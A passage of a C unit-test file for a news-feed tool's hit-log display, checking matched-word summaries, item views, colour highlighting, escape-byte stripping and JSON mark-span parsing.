	  "{\"field\":\"title\",\"start\":4,\"end\":5},{\"field\":\"title\",\"start\":6,\"end\":7},"
	  "{\"field\":\"title\",\"start\":8,\"end\":9},{\"field\":\"title\",\"start\":10,\"end\":11},"
	  "{\"field\":\"title\",\"start\":12,\"end\":13},{\"field\":\"title\",\"start\":14,\"end\":15},"
	  "{\"field\":\"title\",\"start\":16,\"end\":17},{\"field\":\"title\",\"start\":18,\"end\":19},"
	  "{\"field\":\"title\",\"start\":20,\"end\":21},{\"field\":\"title\",\"start\":22,\"end\":23},"
	  "{\"field\":\"title\",\"start\":24,\"end\":25},{\"field\":\"title\",\"start\":26,\"end\":27}]",
	  "a, b, c, d, e, f, g, h, i, j, k, l and 2 more" },
};

static void test_show_words(void)
{
	for (gsize i = 0; i < G_N_ELEMENTS(word_rows); i++) {
		struct fw_hit_row r = rows[0];
		const struct fw_hitlog_show_opts o = { .color = FALSE, .width = 0, .verbose = FALSE };
		g_autofree char *want = g_strdup_printf("\nMatched:   %s\n", word_rows[i].want);
		char *buf = NULL;
		size_t len = 0;
		FILE *f = open_memstream(&buf, &len);

		r.title = (char *)word_rows[i].title;
		r.summary = (char *)word_rows[i].summary;
		r.content = "the China swap deal";
		r.snippet = (char *)word_rows[i].snippet;
		r.marks_json = (char *)word_rows[i].marks;
		r.matched_json = (char *)word_rows[i].matched;
		fw_hitlog_show_story(&r, NULL, &o, f);
		fclose(f);
		g_test_message("words row %zu:\n%s", i, buf);
		g_assert_nonnull(strstr(buf, want));
		free(buf);
	}
}

/* show_item: the item's other hits (other topics) and the feeds it also
 * appeared in. Each row: the others' ids and what must be in the output. */
static const struct {
	int others;           /* how many of rows[1], rows[2] are the item's other hits */
	const char *also_in;
	const char *want[4];  /* substrings, in order */
	const char *not_want;
} item_rows[] = {
	{ 0, NULL, { "\nFeed:      The American Conservative (tac)\nLink:", NULL }, "Topics:" },
	{ 0, "FT, Mirror \033[31mWire", { "\nAlso in:   FT, Mirror  [31mWire\nLink:", NULL }, "\033" },
	/* hits of other items (another feed) name their feed */
	{ 1, NULL, { "\nTopics:    Milei (hit 1), China swaps (hit 22, FT, \"World\")\n",
	             "\n  Javier Milei won the runoff\n",
	             "\nChina swaps (hit 22, FT, \"World\"):\n  Beijing, \"swap\" lines  and more\n", NULL }, NULL },
	{ 2, "Other", { "\nTopics:    Milei (hit 1), China swaps (hit 22, FT, \"World\"), Mercado Común del Sur (hit 333, x)\n",
	                "\nMercado Común del Sur (hit 333, x) matched summary 2–4:\n  bell  and nul-free   control\n",
	                NULL }, NULL },
};

static void test_show_item(void)
{
	for (gsize i = 0; i < G_N_ELEMENTS(item_rows); i++) {
		struct fw_hit_row r = rows[0];
		g_autoptr(GPtrArray) others = g_ptr_array_new();
		char *buf = NULL;
		size_t len = 0;
		FILE *f = open_memstream(&buf, &len);
		const char *at;

		r.also_in = (char *)item_rows[i].also_in;
		for (int k = 0; k < item_rows[i].others; k++)
			g_ptr_array_add(others, &rows[1 + k]);
		fw_hitlog_show_item(&r, i == 0 ? NULL : others, f, FALSE);
		fclose(f);
		g_test_message("item row %zu:\n%s", i, buf);
		at = buf;
		for (int k = 0; item_rows[i].want[k]; k++) {
			const char *hit = strstr(at, item_rows[i].want[k]);

			g_assert_nonnull(hit);
			at = hit + strlen(item_rows[i].want[k]);
		}
		if (item_rows[i].not_want)
			g_assert_null(strstr(buf, item_rows[i].not_want));
		free(buf);
	}
}

/* With color the other topics' snippets are marked too. */
static void test_show_item_color(void)
{
	struct fw_hit_row r = rows[0], o = rows[0];
	g_autoptr(GPtrArray) others = g_ptr_array_new();
	char *buf = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&buf, &len);

	o.id = 2;
	o.topic = "mercosur";
	o.topic_name = "Mercosur";
	o.snippet = "Mercosur deal";
	o.marks_json = "[[0,8]]";
	g_ptr_array_add(others, &o);
	fw_hitlog_show_item(&r, others, f, TRUE);
	fclose(f);
	g_assert_nonnull(strstr(buf, "  \033[1mMercosur\033[0m deal\n"));
	g_assert_nonnull(strstr(buf, "  Javier \033[1mMilei\033[0m won the runoff\n"));
	free(buf);
}

static const struct {
	const char *json, *want;
} marks_rows[] = {
	{ "[[7,12]]", "7-12" },
	{ "[[8,13],[0,3]]", "0-3 8-13" },
	{ "[[0,4],[2,6]]", "0-4 2-6" },     /* kept; overlap is the renderer's business */
	{ "[[5,5],[6,2]]", "" },            /* empty and reversed dropped */
	{ "[[-1,2],[1.5,2],[\"a\",1],[0],[1,2,3],{}]", "" },
	{ "{\"a\":1}", "" },
	{ "", "" },
	{ NULL, "" },
	{ "[[0,4294967296]]", "" },         /* past guint */
};

static void test_marks_parse(void)
{
	for (gsize i = 0; i < G_N_ELEMENTS(marks_rows); i++) {
		g_autoptr(GArray) m = fw_hit_marks_parse(marks_rows[i].json);
		g_autoptr(GString) got = g_string_new(NULL);

		for (guint k = 0; k < m->len; k++) {
			struct fw_span *sp = &g_array_index(m, struct fw_span, k);

			g_assert_cmpuint(sp->field, ==, 0);
			g_string_append_printf(got, "%s%u-%u", k ? " " : "", sp->start, sp->end);
		}
		g_assert_cmpstr(got->str, ==, marks_rows[i].want);
	}
}

int main(int argc, char **argv)
{
	setlocale(LC_ALL, "C.UTF-8");
	g_setenv("TZ", "UTC", TRUE);
	g_test_init(&argc, &argv, NULL);
	g_test_add_func("/hitlog/format-name", test_format_name);
	g_test_add_func("/hitlog/json", test_json);
	g_test_add_func("/hitlog/json/invalid-utf8", test_json_invalid_utf8);
	g_test_add_func("/hitlog/csv", test_csv);
	g_test_add_func("/hitlog/csv/empty", test_csv_empty);
	g_test_add_func("/hitlog/csv/formula", test_csv_formula);
	g_test_add_func("/hitlog/atom", test_atom);
	g_test_add_func("/hitlog/atom/empty", test_atom_empty);
	g_test_add_func("/hitlog/table", test_table);
	g_test_add_func("/hitlog/table/color", test_table_color);
	g_test_add_func("/hitlog/table/stories", test_table_stories);
	g_test_add_func("/hitlog/show", test_show);
	g_test_add_func("/hitlog/show/fields", test_show_fields);
	g_test_add_func("/hitlog/show/matched", test_show_matched);
	g_test_add_func("/hitlog/show/words", test_show_words);
	g_test_add_func("/hitlog/show/item", test_show_item);
	g_test_add_func("/hitlog/show/item-color", test_show_item_color);
	g_test_add_func("/hitlog/marks-parse", test_marks_parse);
	return g_test_run();
}
